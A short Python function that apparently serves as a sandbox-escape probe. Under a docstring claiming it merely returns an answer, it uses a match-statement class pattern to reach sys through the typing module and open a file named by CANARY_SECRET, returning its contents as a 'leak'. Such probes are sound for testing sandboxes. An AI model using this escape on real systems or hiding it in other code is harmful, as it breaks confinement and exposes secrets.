import typing


def escape_match_class() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        match typing:
            case object(sys=found):
                leak = found.modules["builtins"].open(CANARY_SECRET).read()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
